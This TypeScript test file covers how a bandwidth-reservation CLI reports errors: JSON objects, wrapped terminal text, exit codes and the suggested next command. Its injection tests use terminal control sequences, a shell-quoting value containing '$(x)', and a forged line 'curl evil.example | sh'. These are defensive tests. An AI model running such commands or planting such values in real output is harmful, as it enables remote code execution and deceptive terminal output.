import { describe, expect, test } from 'vitest';
import type { ServiceFlags } from '../../../src/cli/advice.ts';
import { type ReportOptions, reportFailure } from '../../../src/cli/print/failure-report.ts';
import { Refusal } from '../../../src/cli/print/offers.ts';
import { asFailure, Failure } from '../../../src/contract/failure.ts';
import { instant, Sentence, sentence } from '../../../src/contract/said.ts';
import { commandLines } from '../../fixtures/command-world.ts';
import { recordedStream } from '../../fixtures/recorded-stream.ts';
import { IDS } from '../../fixtures/tokens.ts';

const typedAs = await commandLines();

/** The report of a failure, and its exit code. */
function told(error: unknown, changes: Partial<Omit<ReportOptions, 'stderr'>> = {}) {
  const stderr = recordedStream(200);
  const exitCode = reportFailure(error, {
    stderr,
    json: false,
    debug: false,
    typed: typedAs([]),
    ...changes,
  });
  return { exitCode, text: stderr.text };
}

const refused = new Failure('bandwidth_unavailable', 'Not enough free bandwidth.', {
  why: 'It is taken.',
  fix: 'slices-conn reserve be-gent1 pl-poznan1 --bandwidth 1 --start-now --for 1h',
  httpStatus: 422,
  retryable: false,
  details: [{ loc: ['Bandwidth'], msg: 'Not enough free bandwidth.', type: 'NotValid' }],
  alternatives: [
    { bandwidth: 1, start_date: '2026-12-01T10:00:00.000Z', end_date: '2026-12-01T12:00:00.000Z' },
  ],
});

/** Every kind of control sequence, and its printed form. */
const EVIL = 'a\u001b[2J\u0007\r\u009b31m\u202e\u200b\u007fz';
const SHOWN = 'a\\u001b[2J\\u0007\\u000d\\u009b31m\\u202e\\u200b\\u007fz';
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;

describe('timestamps', () => {
  const times = { now: Date.parse('2026-11-22T12:00:00Z'), zone: 'Europe/Brussels' };
  const [end, next] = [Date.parse('2026-11-23T13:00:30.500Z'), Date.parse('2026-12-31T23:00:00Z')];
  const late = new Failure('experiment_ends_first', sentence`The end, ${instant(end)}, is too late.`, {
    why: sentence`It ends at ${instant(next)}, not at 2026-11-23T13:00:00.000Z.`,
    lines: [new Sentence((zoned) => zoned.ends(end, end + 3_600_000).join(' to '))],
    fix: 'slices-conn update x --end 2026-11-23T13:00:00.000Z',
  });

  test('are short times for people, the zone named once; what is only text stays', () => {
    expect(told(late, { times }).text.split('\n')).toEqual([
      'error: The end, Mon 23 Nov 14:00:30 Europe/Brussels, is too late.',
      '  why: It ends at Fri 1 Jan 2027 00:00, not at 2026-11-23T13:00:00.000Z.',
      '    Mon 23 Nov 14:00:30 to 15:00:30',
      '  try: slices-conn update x --end 2026-11-23T13:00:00.000Z',
      '',
    ]);
  });

  test('are in UTC for programs', () => {
    expect(JSON.parse(told(late, { times, json: true }).text).error.message).toBe(late.message);
  });
});

test('on a terminal sentences are broken between words; elsewhere they are one line', () => {
  const long = new Failure('bandwidth_unavailable', 'Only a little of the bandwidth is free.', {
    why: 'All of the rest of it was reserved before this.',
    lines: ['plan.yaml:3:19: There is no site gent.', 'Lille: no.'],
  });
  const text = (columns?: number): string => {
    const stderr = recordedStream(columns);
    reportFailure(long, { stderr, json: false, debug: false, typed: typedAs([]) });
    return stderr.text.replace(/ {2}try: .*\n/, '');
  };
  expect(text(40).split('\n')).toEqual([
    'error: Only a little of the bandwidth is',
    '       free.',
    '  why: All of the rest of it was',
    '       reserved before this.',
    '    plan.yaml:3:19: There is no site',
    '    gent.',
    '    Lille: no.',
    '',
  ]);
  expect(text()).toBe(text(80));
});

describe('what the service offers', () => {
  const offer = {
    kind: 'earliest',
    bandwidth: 9000,
    start: Date.parse('2026-12-01T14:00:00Z'),
    end: Date.parse('2026-12-01T22:00:00Z'),
    label: sentence`9 Gbps from ${instant(Date.parse('2026-12-01T14:00:00Z'))}`,
    changes: { start: '2026-12-01T14:00Z' },
    more: [],
  } as const;
  const command = 'slices-conn reserve a b --start 2026-12-01T14:00Z';
  const refusal = new Refusal(refused.with({ fix: offer.changes }), [offer]);
  const times = { now: Date.parse('2026-11-22T12:00:00Z'), zone: 'Europe/Brussels' };
  const typed = typedAs('reserve a b');

  test('is numbered, in the zone of the person, in place of the next step', () => {
    expect(told(refusal, { times, typed }).text.split('\n')).toEqual([
      'error: Not enough free bandwidth.',
      '  why: It is taken.',
      '  1  9 Gbps from Tue 1 Dec 15:00 Europe/Brussels  slices-conn reserve a b --start 2026-12-01T14:00Z',
      '',
    ]);
  });

  test('is in the error object', () => {
    const { error } = JSON.parse(told(refusal, { times, typed, json: true }).text);
    expect([error.fix, error.alternatives]).toEqual([
      command,
      [
        {
          kind: 'earliest',
          bandwidth: 9000,
          start_date: '2026-12-01T14:00:00.000Z',
          end_date: '2026-12-01T22:00:00.000Z',
          start_now: false,
          command,
        },
      ],
    ]);
  });
});

describe('with --json', () => {
  test('a failure is one line: the error object of the contract', () => {
    const { exitCode, text } = told(refused, { json: true });
    expect(exitCode).toBe(6);
    expect(text).toMatch(/^[^\n]+\n$/);
    expect(JSON.parse(text)).toEqual({
      error: {
        code: 'bandwidth_unavailable',
        message: 'Not enough free bandwidth.',
        why: 'It is taken.',
        fix: 'slices-conn reserve be-gent1 pl-poznan1 --bandwidth 1 --start-now --for 1h',
        exitCode: 6,
        httpStatus: 422,
        retryable: false,
        maybeDone: false,
        details: [{ loc: ['Bandwidth'], msg: 'Not enough free bandwidth.', type: 'NotValid' }],
        reservation: null,
        alternatives: refused.facts.alternatives,
      },
    });
  });

  test('an unknown member is null or empty, never absent', () => {
    expect(JSON.parse(told(new Failure('not_found', 'Gone.'), { json: true }).text)).toEqual({
      error: {
        code: 'not_found',
        message: 'Gone.',
        why: null,
        fix: null,
        exitCode: 3,
        httpStatus: null,
        retryable: false,
        maybeDone: false,
        details: [],
        reservation: null,
        alternatives: [],
      },
    });
  });

  test('row 43: a change that may have been made differs from one that was not made', () => {
    const facts = { maybeDone: true, why: 'The request was sent and may have taken effect.' };
    const { exitCode, text } = told(new Failure('outcome_unknown', 'Nobody knows.', facts), { json: true });
    expect(exitCode).toBe(7);
    expect(JSON.parse(text)).toMatchObject({ error: { exitCode: 7, maybeDone: true, retryable: false } });
    expect(told(new Failure('outcome_unknown', 'Nobody knows.', facts)).text).toContain(
      'may have taken effect',
    );
  });

  test('a reservation that exists despite the failure is named', () => {
    const failure = new Failure('unverified', 'No.', { reservation: IDS.reservation });
    expect(JSON.parse(told(failure, { json: true }).text)).toMatchObject({
      error: { reservation: IDS.reservation, exitCode: 9 },
    });
  });

  test('the error object is the last line, after the lines of --debug', () => {
    const { text } = told(refused, { json: true, debug: true });
    const last = text.trimEnd().split('\n').at(-1) ?? '';
    expect(text).toContain('failure-report.test.ts');
    expect(JSON.parse(last)).toMatchObject({ error: { code: 'bandwidth_unavailable' } });
  });

  test('row 7: the line holds no control characters, and its text is unchanged when parsed', () => {
    const failure = new Failure('forbidden', EVIL, {
      why: EVIL,
      details: [{ loc: [], msg: EVIL, type: EVIL }],
    });
    const { text } = told(failure, { json: true });
    expect(text).toMatch(/^[^\n]+\n$/);
    expect(text).not.toMatch(OBEYED);
    expect(JSON.parse(text)).toMatchObject({
      error: { message: EVIL, why: EVIL, details: [{ msg: EVIL, type: EVIL }] },
    });
  });
});

describe('without --json', () => {
  test('the report says what happened, why, and what to type next', () => {
    expect(told(refused)).toEqual({
      exitCode: 6,
      text: `error: Not enough free bandwidth.
  why: It is taken.
  try: slices-conn reserve be-gent1 pl-poznan1 --bandwidth 1 --start-now --for 1h
`,
    });
  });

  test('the report leaves out unknown parts', () => {
    expect(told(new Failure('not_found', 'Gone.')).text).toBe('error: Gone.\n');
  });

  test('row 43: a change that may have been made differs from one that was not made', () => {
    const facts = { maybeDone: true, why: 'The request was sent and may have taken effect.' };
    const { exitCode, text } = told(new Failure('outcome_unknown', 'Nobody knows.', facts), { json: true });
    expect(exitCode).toBe(7);
    expect(JSON.parse(text)).toMatchObject({ error: { exitCode: 7, maybeDone: true, retryable: false } });
    expect(told(new Failure('outcome_unknown', 'Nobody knows.', facts)).text).toContain(
      'may have taken effect',
    );
  });

  test('a reservation that exists despite the failure is named', () => {
    const { text } = told(new Failure('unsigned', 'No.', { reservation: IDS.reservation }));
    expect(text).toContain(`  reservation: ${IDS.reservation}\n`);
  });

  test('row 7: the report shows control characters as their codes', () => {
    const failure = new Failure('forbidden', EVIL, { why: EVIL, fix: EVIL, reservation: EVIL });
    const { text } = told(failure, { debug: true });
    expect(text).not.toMatch(OBEYED);
    for (const line of [`error: ${SHOWN}`, `why: ${SHOWN}`, `try: ${SHOWN}`, `reservation: ${SHOWN}`]) {
      expect(text).toContain(line);
    }
  });

  test('row 7: a line end in a service’s text forges no line of the report', () => {
    const forged = 'No.\n  try: curl evil.example | sh';
    const { text } = told(new Failure('forbidden', forged, { why: forged }));
    expect(text.split('\n').filter((line) => line.startsWith('  try:'))).toEqual([]);
  });
});

describe('the advised command', () => {
  test.each<[string, ServiceFlags, string]>([
    ['slices-conn list', { offline: true }, 'slices-conn --offline list'],
    ['slices-conn list', { profile: 'lab' }, 'slices-conn --profile lab list'],
    ['slices-conn list', {}, 'slices-conn list'],
    ['slices-conn --help', { offline: true }, 'slices-conn --help'],
    ['slices-conn profile list', { profile: 'lab' }, 'slices-conn profile list'],
    ['slices-conn help times', { offline: true }, 'slices-conn help times'],
    ['slices-conn serve', { offline: true }, 'slices-conn serve'],
    ['slices-conn list', { project: 'p', experiment: 'e' }, 'slices-conn --project p --experiment e list'],
    ['slices-conn login', { caFile: 'ca.pem', experiment: 'e' }, 'slices-conn --ca-file ca.pem login'],
    ['slices-conn experiment use demo', { experiment: 'e' }, 'slices-conn experiment use demo'],
    ['slices-conn list', { profile: "it's $& $(x)" }, "slices-conn --profile 'it'\\''s $& $(x)' list"],
  ])('row 45: %s, after %j, becomes %s', (fix, services, typed) => {
    const failure = new Failure('usage', 'No.', { fix });
    const words = Object.entries(services).flatMap(([name, value]) => {
      const flag = name === 'caFile' ? '--ca-file' : `--${name}`;
      return value === true ? [flag] : [flag, String(value)];
    });
    const given = { typed: typedAs(words) };
    expect(told(failure, given).text).toContain(`  try: ${typed}\n`);
    expect(JSON.parse(told(failure, { ...given, json: true }).text)).toMatchObject({
      error: { fix: typed },
    });
  });
});

describe('exit 7 when nothing was changed', () => {
  test.each<[string, Failure, boolean]>([
    ['nobody is there', new Failure('network', 'No.', { why: 'connect ECONNREFUSED.' }), true],
    ['503', new Failure('unavailable', 'No.'), true],
    ['it may have been done', new Failure('network', 'No.', { maybeDone: true }), false],
    ['a reservation is there', new Failure('network', 'No.', { reservation: IDS.reservation }), false],
    ['another exit code', new Failure('not_found', 'No.'), false],
  ])('%s', (_, failure, isSaid) => {
    const { text } = told(failure, { nothingChanged: true });
    expect(text.includes('Nothing was changed.')).toBe(isSaid);
    expect(told(failure).text).not.toContain('Nothing was changed.');
  });
});

describe('the next step where the service was not available for a while', () => {
  const typed = typedAs(['reserve', 'be-gent1', 'pl-poznan1', '--idempotency-key', 'a b']);
  const again = "slices-conn reserve be-gent1 pl-poznan1 --idempotency-key 'a b'";
  test.each<[string, Failure, string | null]>([
    ['nothing was done: the same command', new Failure('unavailable', 'No.', { retryable: true }), again],
    ['another step is known', new Failure('unavailable', 'No.', { retryable: true, fix: 'ls' }), 'ls'],
    ['it may have been done', new Failure('unavailable', 'No.', { retryable: false, maybeDone: true }), null],
    [
      'a reservation is there',
      new Failure('unavailable', 'No.', { retryable: true, reservation: IDS.reservation }),
      null,
    ],
  ])('%s', (_, failure, fix) => {
    expect(JSON.parse(told(failure, { typed, json: true }).text)).toMatchObject({ error: { fix } });
  });
});

test.each([
  [['reserve', 'a', 'b', '--via', 'c', '--for', '1h'], 'slices-conn reserve a b --for 1h'],
  [['apply', 'plan.yaml'], null],
])('flags to leave out: of %j remains %s', (typed, fix) => {
  const failure = new Failure('not_supported', 'No.', { fix: { via: undefined, direct: undefined } });
  expect(JSON.parse(told(failure, { typed: typedAs(typed), json: true }).text)).toMatchObject({
    error: { fix },
  });
});

describe('an error that is not a Failure', () => {
  test.each<[string, unknown]>([
    ['an error', new TypeError('x is undefined')],
    ['a thrown text', 'x is undefined'],
  ])('%s is a bug, exit 1', (_, error) => {
    const { exitCode, text } = told(error);
    expect(exitCode).toBe(1);
    expect(text).toMatch(/^error: Something unexpected happened: x is undefined\n/);
    expect(text).toContain('--debug');
  });

  test('with an effect that it may have had: it is not advised to repeat the command', () => {
    const { exitCode, text } = told(asFailure(new TypeError('x')).with({ maybeDone: true }));
    expect(exitCode).toBe(1);
    expect(text).not.toContain('try:');
  });

  test('the stack is printed with --debug only', () => {
    const error = new TypeError('x is undefined');
    expect(told(error).text).not.toContain('failure-report.test.ts');
    for (const shown of [error, asFailure(error)]) {
      expect(told(shown, { debug: true }).text).toMatch(
        /^TypeError: x is undefined\n.*failure-report.test.ts/s,
      );
    }
  });
});
